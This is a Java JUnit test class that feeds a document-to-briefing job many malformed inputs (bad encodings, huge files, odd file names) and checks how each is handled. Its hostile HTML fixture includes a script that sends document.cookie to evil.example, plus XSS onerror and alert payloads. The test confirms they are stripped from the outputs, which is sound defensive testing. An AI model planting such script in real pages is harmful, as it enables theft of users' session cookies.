package org.briefingpack.job;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.briefingpack.extract.FactsLimits;
import org.briefingpack.ingest.DocumentReader;
import org.briefingpack.ingest.SourceDocument;
import org.briefingpack.model.Facts;
import org.briefingpack.model.FigureKind;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Primary;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;

/**
 * One run over every kind of bad input the job meets unattended, beside each other in one input
 * folder: each file gets a whole pack or a skip with a clear reason (in the log and run-report.json),
 * the run completes, and the exit code says something was skipped.
 */
@SpringBootTest(
        properties = {
            "briefing.runner.enabled=false",
            "briefing.links.fetch=false",
            "spring.datasource.url=jdbc:h2:mem:bad-input-${random.uuid};DB_CLOSE_DELAY=-1"
        })
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@ExtendWith(OutputCaptureExtension.class)
class BriefingPackJobBadInputTest {

    private static final JobTestFolders folders = new JobTestFolders(BriefingPackJobBadInputTest.class);
    /** 80 CJK characters: 240 bytes of file name, legal on every common file system. */
    private static final String LONG_CJK_NAME = "会議".repeat(40) + ".txt";

    private static final long FIFTY_MB = 50L * 1024 * 1024;

    @Autowired
    BriefingPackLauncher launcher;

    private RunResult result;
    private Map<String, JsonNode> byFile;
    private String log;

    @DynamicPropertySource
    static void folders(DynamicPropertyRegistry registry) {
        folders.register(registry);
    }

    @BeforeAll
    void runTheJobOnceOverEveryBadInput(CapturedOutput output) throws IOException {
        writeInputs();
        result = launcher.launch(null);
        log = output.getAll();
        byFile = RunOutputs.entriesByFile(RunOutputs.report(result.runDir()));
    }

    private static void writeInputs() throws IOException {
        folders.write("empty.txt", new byte[0]);
        folders.write("whitespace.md", " \n\t  \r\n \u00a0\n".getBytes(StandardCharsets.UTF_8));
        folders.write(
                "photo.txt",
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        folders.write(
                VanishingDocumentReader.VANISHES,
                good("Bern Rail Summit", "Switzerland pledged $9 million to night trains.")
                        .getBytes(StandardCharsets.UTF_8));
        writeFiftyMegabytes(folders.input.resolve("fifty-megabytes.txt"));

        // Windows-1252: 0x80 is the euro sign, and the bytes are not valid UTF-8.
        byte[] cp1252 = good(
                        "Lisbon Ocean Summit",
                        "The European Commission pledged \u20ac5 million for coral reef research.")
                .getBytes("windows-1252");
        assertThat(cp1252).contains((byte) 0x80);
        folders.write("cp1252-euro.txt", cp1252);
        byte[] utf16 = good(
                        "Nairobi Water Summit",
                        "The African Development Bank committed $250 million to rural water projects.")
                .getBytes(StandardCharsets.UTF_16LE);
        folders.write("utf16-bom.txt", concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, utf16));
        folders.write(
                "invalid-utf8.txt",
                concat(
                        good("Oslo Forum", "Norway pledged $10 million to mediation work.")
                                .getBytes(StandardCharsets.UTF_8),
                        new byte[] {'O', 'k', (byte) 0xC3, 0x28, ' ', (byte) 0xFF, '.', '\n'}));
        folders.write("one-megabyte-line.txt", oneMegabyteWithoutSpaces());
        folders.write(
                "control-characters.txt",
                good("Oslo\u001b[31m Forum", "Norway\u0001 pledged\uFFFE $10\uFFFF million to mediation.")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write(
                "utf32-bom.txt",
                concat(
                        new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0},
                        good("Accra Cocoa Summit", "Ghana pledged $7 million to cocoa farmers.")
                                .getBytes(java.nio.charset.Charset.forName("UTF-32LE"))));
        folders.write(
                "one-megabyte-sentence.txt",
                (good("Reykjavik Ocean Summit", "Iceland pledged $3 million to fisheries.") + "The Ocean Fund "
                                + "and delegates of the fund pledged $5 million to coral reefs while 12 countries "
                                        .repeat(13_000)
                                + "ended.\n")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write(
                "one-megabyte-address.txt",
                (good("Lima Open Data Summit", "Peru pledged $2 million to open data.")
                                + "\nSource: https://example.org/" + "ab/".repeat(350_000) + "\n")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write("hostile.html", hostileHtml().getBytes(StandardCharsets.UTF_8));
        folders.write(
                "no-facts.txt",
                ("notes\n\nthe weather was pleasant and the coffee was good. people talked over lunch"
                                + " and went home.\n")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write(
                "world names.txt",
                ("Tokyo Digital Forum 2025\n\nThe forum met in Tokyo on 3 March 2025. 王小明 🚀 announced"
                                + " a $3 million fund for شبكة الأمل and 東京大学. The minister אברהם כהן pledged €2 million to the 🌍 Climate"
                                + " Data Alliance.\n")
                        .getBytes(StandardCharsets.UTF_8));

        // File names: spaces and unicode, dots where a path would have them, a long multi-byte name.
        folders.write(
                "a b ü.md",
                good("Vienna Energy Talks", "Austria pledged €4 million to grid storage.")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write(
                "x..txt",
                good("Quito Andes Summit", "Ecuador pledged $6 million to glacier monitoring.")
                        .getBytes(StandardCharsets.UTF_8));
        folders.write(
                LONG_CJK_NAME,
                good("Kyoto Culture Summit", "Japan pledged $8 million to temple restoration.")
                        .getBytes(StandardCharsets.UTF_8));
        // Names starting with a dot are hidden files (like .DS_Store): never read, never written.
        folders.write(
                "..txt", good("Hidden Summit", "Nobody pledged $1 million.").getBytes(StandardCharsets.UTF_8));
        folders.write(
                "...md", good("Hidden Summit", "Nobody pledged $1 million.").getBytes(StandardCharsets.UTF_8));
    }

    static Stream<Arguments> skippedInputs() {
        return Stream.of(
                Arguments.of("empty file", "empty.txt", "file is empty"),
                Arguments.of("white space only", "whitespace.md", "no text (the file holds only white space)"),
                Arguments.of("a PNG renamed .txt", "photo.txt", "binary content (PNG image), not text"),
                Arguments.of(
                        "vanished between listing and reading",
                        VanishingDocumentReader.VANISHES,
                        "vanished before it could be read"),
                Arguments.of(
                        "50 MB of text",
                        "fifty-megabytes.txt",
                        "too large (" + FIFTY_MB + " bytes; the limit is " + DocumentReader.DEFAULT_MAX_BYTES + ")"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("skippedInputs")
    void badInput_whenUnreadable_isSkippedWithItsReasonInTheLogAndTheReport(String label, String file, String reason) {
        JsonNode entry = byFile.get(file);
        assertThat(entry).as(file + " in run-report.json").isNotNull();
        assertThat(entry.get("status").asString()).isEqualTo("SKIPPED");
        assertThat(entry.get("reason").asString()).isEqualTo(file + ": " + reason);
        assertThat(entry.get("outputs")).isEmpty();
        assertThat(log)
                .contains(file + ": skipped: " + reason)
                .as("the file named once")
                .doesNotContain(file + ": skipped: " + file);
        assertThat(result.runDir().resolve(entry.get("folder").asString()))
                .as("no folder for a skipped file")
                .doesNotExist();
    }

    static Stream<Arguments> packedInputs() {
        return Stream.of(
                Arguments.of("Windows-1252 with the euro as 0x80", "cp1252-euro.txt", "cp1252-euro", "windows-1252"),
                Arguments.of("UTF-16 with a byte-order mark", "utf16-bom.txt", "utf16-bom", "UTF-16LE"),
                Arguments.of("invalid UTF-8", "invalid-utf8.txt", "invalid-utf8", "windows-1252"),
                Arguments.of("a 1 MB line without spaces", "one-megabyte-line.txt", "one-megabyte-line", "UTF-8"),
                Arguments.of("ESC, U+0001, U+FFFE, U+FFFF", "control-characters.txt", "control-characters", "UTF-8"),
                Arguments.of("UTF-32 with a byte-order mark", "utf32-bom.txt", "utf32-bom", "UTF-32LE"),
                Arguments.of(
                        "a 1 MB sentence full of figures",
                        "one-megabyte-sentence.txt",
                        "one-megabyte-sentence",
                        "UTF-8"),
                Arguments.of("a 1 MB web address", "one-megabyte-address.txt", "one-megabyte-address", "UTF-8"),
                Arguments.of("HTML with scripts, iframes, entities, 500 levels", "hostile.html", "hostile", "UTF-8"),
                Arguments.of("no facts at all", "no-facts.txt", "no-facts", "UTF-8"),
                Arguments.of("emoji, CJK and right-to-left names", "world names.txt", "world-names", "UTF-8"),
                Arguments.of("a name with spaces and unicode", "a b ü.md", "a-b-ü", "UTF-8"),
                Arguments.of("a name with '..'", "x..txt", "x", "UTF-8"),
                Arguments.of("a 240-byte CJK name", LONG_CJK_NAME, "会議".repeat(20), "UTF-8"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packedInputs")
    void badInput_whenReadable_getsAWholePack(String label, String file, String folder, String encoding) {
        JsonNode entry = byFile.get(file);
        assertThat(entry).as(file + " in run-report.json").isNotNull();
        assertThat(entry.get("status").asString()).as(entry.toString()).isEqualTo("PACKED");
        assertThat(entry.get("folder").asString()).isEqualTo(folder);
        assertThat(entry.get("encoding").asString()).isEqualTo(encoding);
        Path pack = result.runDir().resolve(folder);
        assertThat(pack.toAbsolutePath().normalize().getParent())
                .isEqualTo(result.runDir().toAbsolutePath().normalize());
        Facts facts = RunOutputs.facts(pack);
        assertThat(facts.document().file()).isEqualTo(file);
        assertThat(RunOutputs.pdfText(pack.resolve("briefing.pdf"))).isNotBlank();
        assertThat(entry.get("outputs").toString()).contains(folder + "/facts.json", folder + "/briefing.pdf");
        assertThat(JobTestFolders.filesUnder(pack)).noneMatch(name -> name.endsWith(".part"));
        assertThat(log).contains(file + ": extracted");
    }

    @Test
    void badInput_runCompletesAndItsExitCodeSaysSomethingWasSkipped() throws IOException {
        assertThat(result.exitCode()).as(String.valueOf(result.message())).isEqualTo(ExitCodes.COMPLETED_WITH_SKIPS);
        assertThat(result.skipped()).isEqualTo(5);
        assertThat(result.failed()).isZero();
        assertThat(result.packed()).isEqualTo(14);
        assertThat(byFile).hasSize(19).doesNotContainKeys("..txt", "...md");
        assertThat(log).contains("input: 2 hidden file(s) ignored (names starting with '.'): ...md, ..txt");
        assertThat(Files.readString(folders.output.resolve("LATEST"), StandardCharsets.UTF_8)
                        .trim())
                .isEqualTo(result.runId());
    }

    @Test
    void badInput_windows1252Euro_becomesEuroMoneyInTheFacts() {
        Facts facts = RunOutputs.facts(result.runDir().resolve("cp1252-euro"));
        assertThat(facts.figures()).anySatisfy(f -> {
            assertThat(f.kind()).isEqualTo(FigureKind.MONEY);
            assertThat(f.currency()).isEqualTo("EUR");
            assertThat(f.text()).isEqualTo("€5 million");
            assertThat(f.value()).isEqualByComparingTo(new BigDecimal("5000000"));
        });
        assertThat(byFile.get("cp1252-euro.txt").get("warnings").toString()).contains("not valid UTF-8");
        assertThat(log)
                .as("the guess is in the log too, not only in the report")
                .contains("cp1252-euro.txt: not valid UTF-8; read as windows-1252 (a guess)");
    }

    @Test
    void badInput_utf16WithBom_isReadAsText() {
        Facts facts = RunOutputs.facts(result.runDir().resolve("utf16-bom"));
        assertThat(facts.event().name()).isEqualTo("Nairobi Water Summit");
        assertThat(facts.figures()).anySatisfy(f -> assertThat(f.text()).isEqualTo("$250 million"));
    }

    @Test
    void badInput_invalidUtf8_keepsTheGoodTextAndWarns() {
        Facts facts = RunOutputs.facts(result.runDir().resolve("invalid-utf8"));
        assertThat(facts.figures()).anySatisfy(f -> assertThat(f.text()).isEqualTo("$10 million"));
        assertThat(byFile.get("invalid-utf8.txt").get("warnings").toString()).contains("not valid UTF-8");
    }

    @Test
    void badInput_hostileHtml_keepsTheTextDecodesEntitiesAndDropsScripts() throws IOException {
        Path pack = result.runDir().resolve("hostile");
        Facts facts = RunOutputs.facts(pack);
        assertThat(facts.figures()).as("&euro; decoded").anySatisfy(f -> {
            assertThat(f.currency()).isEqualTo("EUR");
            assertThat(f.text()).isEqualTo("€5 million");
        });
        assertThat(facts.figures())
                .as("text 500 levels deep")
                .anySatisfy(f -> assertThat(f.text()).isEqualTo("$12 million"));
        String factsJson = Files.readString(pack.resolve("facts.json"));
        String html = Files.readString(pack.resolve("briefing.html"));
        for (String hostile : List.of("document.cookie", "evil.example", "alert(", "onerror")) {
            assertThat(factsJson).doesNotContain(hostile);
            assertThat(html).doesNotContain(hostile);
        }
    }

    @Test
    void badInput_documentWithoutFacts_getsAShortPackThatSaysSo() {
        Path pack = result.runDir().resolve("no-facts");
        assertThat(RunOutputs.facts(pack).isEmpty()).isTrue();
        assertThat(RunOutputs.pdfText(pack.resolve("briefing.pdf"))).contains("No facts were found in this document");
        assertThat(byFile.get("no-facts.txt").get("warnings").toString()).contains("no facts found: the pack says so");
    }

    @Test
    void badInput_emojiCjkAndRightToLeftNames_surviveIntoFactsAndTheHtmlBriefing() throws IOException {
        Path pack = result.runDir().resolve("world-names");
        Facts facts = RunOutputs.facts(pack);
        // Names as extraction cuts them may change; what must hold is that the scripts survive whole.
        assertThat(facts.outcomes())
                .extracting(o -> o.name())
                .anySatisfy(name -> assertThat(name).contains("شبكة الأمل"))
                .anySatisfy(name -> assertThat(name).contains("🌍 Climate Data Alliance"));
        assertThat(Files.readString(pack.resolve("facts.json"))).contains("王小明 🚀", "אברהם כהן", "東京大学");
        assertThat(Files.readString(pack.resolve("briefing.html"))).contains("شبكة الأمل", "🌍 Climate Data Alliance");
    }

    // The work is bounded by the output, not timed: a megabyte line once became a 251-page PDF.
    @ParameterizedTest
    @ValueSource(strings = {"one-megabyte-line.txt", "one-megabyte-address.txt", "one-megabyte-sentence.txt"})
    void badInput_oneMegabyteLine_givesAPackOfBoundedSize(String file) throws IOException {
        Path pack = result.runDir().resolve(byFile.get(file).get("folder").asString());
        assertThat(RunOutputs.pdfPages(pack.resolve("briefing.pdf"))).isLessThanOrEqualTo(40);
        assertThat(Files.size(pack.resolve("facts.json"))).isLessThan(400_000);
        Facts facts = RunOutputs.facts(pack);
        Stream.of(
                        facts.outcomes().stream().flatMap(o -> o.evidence().stream()),
                        facts.positions().stream().flatMap(p -> p.evidence().stream()),
                        facts.themes().stream().flatMap(t -> t.evidence().stream()))
                .flatMap(s -> s)
                .forEach(e -> assertThat(e.quote().length()).isLessThanOrEqualTo(FactsLimits.MAX_QUOTE_CHARS + 4));
    }

    @Test
    void badInput_oneMegabyteSentenceFullOfFigures_keepsTheFirstFiguresAndSaysSo() {
        JsonNode entry = byFile.get("one-megabyte-sentence.txt");
        Facts facts = RunOutputs.facts(result.runDir().resolve("one-megabyte-sentence"));
        assertThat(facts.figures()).hasSize(FactsLimits.MAX_FIGURES);
        assertThat(facts.figures()).anySatisfy(f -> assertThat(f.text()).isEqualTo("$3 million"));
        assertThat(entry.get("warnings").toString()).contains("figures found; the first " + FactsLimits.MAX_FIGURES);
    }

    @Test
    void badInput_oneMegabyteAddress_isLeftOutOfTheLinksAndTheWorkbookOpens() throws IOException {
        Facts facts = RunOutputs.facts(result.runDir().resolve("one-megabyte-address"));
        assertThat(facts.links()).isEmpty();
        assertThat(facts.figures()).anySatisfy(f -> assertThat(f.text()).isEqualTo("$2 million"));
        try (InputStream in = Files.newInputStream(result.runDir().resolve("commitments.xlsx"));
                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            for (Sheet sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        if (cell.getHyperlink() != null) {
                            assertThat(cell.getHyperlink().getAddress().length())
                                    .as("Excel's hyperlink limit")
                                    .isLessThanOrEqualTo(2079);
                        }
                        if (cell.getCellType() == CellType.STRING) {
                            assertThat(cell.getStringCellValue().length()).isLessThanOrEqualTo(32_767);
                        }
                    }
                }
            }
        }
    }

    @Test
    void badInput_hostileFileNames_writeOnlyInsideTheRunFolder() {
        Path output = folders.output.toAbsolutePath().normalize();
        Path runDir = result.runDir().toAbsolutePath().normalize();
        assertThat(JobTestFolders.filesUnder(output))
                .allSatisfy(file -> assertThat(file.startsWith(result.runId() + "/")
                                || List.of("LATEST", ".briefing-pack.lock").contains(file))
                        .as(file)
                        .isTrue());
        for (JsonNode entry : byFile.values()) {
            Path folder = runDir.resolve(entry.get("folder").asString()).normalize();
            assertThat(folder.getParent()).as(entry.toString()).isEqualTo(runDir);
            assertThat(folder.getFileName().toString()).doesNotStartWith(".").doesNotContain("..");
            assertThat(folder.getFileName().toString().getBytes(StandardCharsets.UTF_8).length)
                    .isLessThanOrEqualTo(120);
        }
        assertThat(folders.root.toFile().list()).containsExactlyInAnyOrder("input", "output");
    }

    /** A short write-up with an event, a date and one outcome: the kind of document every run should pack. */
    static String good(String event, String outcome) {
        return event + " 2024\n\nThe " + event + " took place on 14 May 2024. " + outcome + "\n";
    }

    /** 50 MB of real sentences, written in blocks so the test itself stays small in memory. */
    private static void writeFiftyMegabytes(Path file) throws IOException {
        byte[] block = "Delegates discussed the budget at length and agreed to meet again next year. "
                .repeat(1000)
                .getBytes(StandardCharsets.UTF_8);
        long written = 0;
        try (OutputStream out = Files.newOutputStream(file)) {
            while (written < FIFTY_MB) {
                int n = (int) Math.min(block.length, FIFTY_MB - written);
                out.write(block, 0, n);
                written += n;
            }
        }
    }

    private static byte[] oneMegabyteWithoutSpaces() {
        String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,;:-$%/€()\"'";
        Random random = new Random(7);
        StringBuilder line = new StringBuilder(1 << 20);
        while (line.length() < 1 << 20) {
            line.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return line.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String hostileHtml() {
        StringBuilder html = new StringBuilder("""
                <!DOCTYPE html><html><head><title>Geneva Health Summit 2024</title>
                <script>new Image().src='http://evil.example/steal?c='+document.cookie</script>
                <script src="http://evil.example/x.js"></script>
                </head><body onload="alert(1)">
                <h1>Geneva Health Summit 2024</h1>
                <iframe src="http://evil.example/frame"></iframe>
                <p>The Geneva Health Summit took place on 14 May 2024. The Global Fund pledged &euro;5 million
                for vaccines &amp; clinics &lt;in rural areas&gt;&#33;</p>
                <img src="x" onerror="alert(2)">
                """);
        html.append("<div>".repeat(500))
                .append("<p>At the close, the World Bank committed $12 million to clinics.</p>")
                .append("</div>".repeat(500))
                .append("</body></html>");
        return html.toString();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    /** The real reader, except that one file is deleted between the listing and the read. */
    static class VanishingDocumentReader extends DocumentReader {
        static final String VANISHES = "vanishes.txt";

        @Override
        public SourceDocument read(Path file) {
            if (file.getFileName().toString().equals(VANISHES)) {
                try {
                    Files.delete(file);
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }
            return super.read(file);
        }
    }

    @TestConfiguration
    static class Vanishing {
        @Bean
        @Primary
        VanishingDocumentReader vanishingDocumentReader() {
            return new VanishingDocumentReader();
        }
    }
}
